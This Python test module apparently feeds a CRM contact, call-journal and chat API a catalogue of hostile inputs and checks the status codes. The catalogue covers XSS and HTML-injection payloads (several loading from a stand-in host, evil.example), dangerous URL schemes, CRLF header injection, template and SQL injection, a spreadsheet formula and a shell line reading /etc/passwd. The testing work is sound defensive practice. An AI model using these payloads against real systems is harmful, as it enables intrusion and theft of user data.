"""Texts that callers may send to hurt whoever reads them, and a way to send them as a caller does.

They come in as any caller's do: as a contact's name, company and address, as the number that is
looked up, as every field of a report, as messages and transcripts.
"""

from collections.abc import Callable, Mapping
from typing import Any
from urllib.parse import quote

MAX_NAME, MAX_EXTENSION = 100, 16

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script unclosed": "<script>alert(1)//",
    "script behind a comment": "--><script>alert(1)</script>",
    "script behind CDATA": "]]><script>alert(1)</script>",
    "script behind the title": "</title><script>alert(1)</script>",
    "script behind a text area": "</textarea><script>alert(1)</script>",
    "script behind a style": "</style><script>alert(1)</script>",
    "script behind a script": "</script><script>alert(1)</script>",
    "script behind preformatted": "</pre></bdi></code><script>alert(1)</script>",
    "script behind an option": "</option></select><script>alert(1)</script>",
    "script of an SVG": "<svg><script>alert(1)</script></svg>",
    "SVG that loads": "<svg/onload=alert(1)>",
    "SVG that animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "picture that fails": "<img src=x onerror=alert(1)>",
    "picture of a spy": '<img src="https://evil.example/pixel.gif">',
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame of elsewhere": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embedded": '<embed src="https://evil.example/x.swf">',
    "form of elsewhere": '<form action="https://evil.example/"><input name="key">',
    "button of elsewhere": '<button formaction="https://evil.example/">Save</button>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>*{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0">',
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "MathML": "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "template element": "<template><script>alert(1)</script></template>",
}
ATTRIBUTES = {
    "double quote": '" onmouseover="alert(1)',
    "single quote": "' onmouseover='alert(1)",
    "back quote": "` onmouseover=`alert(1)",
    "no quote": "x onfocus=alert(1) autofocus=",
    "quote and bracket": '"><script>alert(1)</script>',
    "single quote and bracket": "'><img src=x onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numbered entities": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "quote as an entity": "&quot; onclick=&quot;alert(1)",
}
ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "javascript with a tab": "java\tscript:alert(1)",
    "javascript in capitals": "JaVaScRiPt:alert(1)//https://",
    "javascript behind a control": "\x01javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "another host": "//evil.example/recording.wav",
    "backslashes": "https:\\\\evil.example\\recording.wav",
    "user name": "https://records.example.com@evil.example/",
    "quote in an address": 'https://records.example.com/"onmouseover="alert(1)',
    "file": "file:///etc/passwd",
}
WRITING = {
    "right to left": "\u202egpj.exe\u202c invoice",
    "isolate left open": "\u2067open \u2066isolate",
    "Hebrew and Arabic": "שלום مرحبا 1234 (Müller)",
    "marks upon marks": "Z\u0351\u036b\u0343a\u0363\u0368l" + "\u0336" * 60 + "go",
    "emoji": "👩🏽‍💻🏳️‍🌈👨‍👩‍👧‍👦 Zoë",
    "nothing that is seen": "A\u200b\u200c\u200d\ufeff\u2060B",
    "control characters": "bell\x07 escape\x1b[31m red\x08 back\x85 next\x9b",
    "NUL": "before\x00after",
    "lines": "one\r\ntwo\u2028three\u2029four",
    "header": "name\r\nSet-Cookie: threecx_console=planted",
    "ten thousand characters": "W" * 10_000,
    "ten thousand tags": "<b>" * 3_334,
}
PROGRAMS = {
    "Jinja": "{{ 7 * 7 }}{% raw %}{{ config }}",
    "Jinja's insides": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> %s %(x)s {0} {x}",
    "SQL": "'; DROP TABLE three_cx_contacts; --",
    "spreadsheet": '=HYPERLINK("https://evil.example","Open")',
    "command": "$(touch /tmp/x) `id` | cat ../../etc/passwd",
}
TEXTS: Mapping[str, str] = {**MARKUP, **ATTRIBUTES, **ADDRESSES, **WRITING, **PROGRAMS}

Send = Callable[[str, str, Mapping[str, Any] | None], int]
"""Sends a request with the organization's key, (method, path, body), and returns the status."""


def kept(text: str) -> str:
    """What is kept of a text: databases keep no NUL, and edges are cut."""
    return text.replace("\x00", "").strip()


def pour(send: Send, texts: Mapping[str, str] = TEXTS, *, first: int = 0) -> None:
    """Bring every text in wherever a caller may; callers are numbered from ``first`` on."""
    for number, text in enumerate(texts.values(), first):
        statuses = [send(*request) for request in _requests(number, text)]
        assert all(status in {200, 201, 400} for status in statuses), (text, statuses)
        assert statuses[-2:] == [201, 201], (text, statuses)  # the call and the chat are kept


def _requests(number: int, text: str) -> list[tuple[str, str, Mapping[str, Any] | None]]:
    phone = f"+4930900{number:04}"
    name = text[:MAX_NAME]
    agent = {
        "Agent": text[:MAX_EXTENSION],
        "AgentEmail": name,
        "AgentFirstName": name,
        "AgentLastName": name,
    }
    common = {"Number": phone, "Name": name, "Subject": text, "EntityType": name, **agent}
    common |= {"QueueExtension": text[:MAX_EXTENSION], text[:200]: text}
    contact = {"FirstName": name, "LastName": name, "Company": name, "Email": name}
    call = {
        **common,
        "CallType": "Inbound",
        "RecordingUrl": text,
        "Transcription": f"{text}: {text}\nAgent: {text}",
        "Summary": text,
        "Sentiment": name,
        "CallStartTimeUTC": f"2026-11-20T10:{number % 60:02}:00Z",
    }
    chat = {**common, "Email": name, "ChatMessages": f"{text}: {text}\n{text}"}
    return [
        ("GET", f"/contacts/lookup?number={quote(name, safe='', errors='replace')}", None),
        ("GET", f"/contacts/search?query={quote(name, safe='', errors='replace')}", None),
        ("POST", "/contacts/create", {**contact, "Number": text}),
        ("POST", "/contacts/create", {**contact, "Number": phone}),
        ("POST", "/calls/journal", call),
        ("POST", "/chats/journal", chat),
    ]
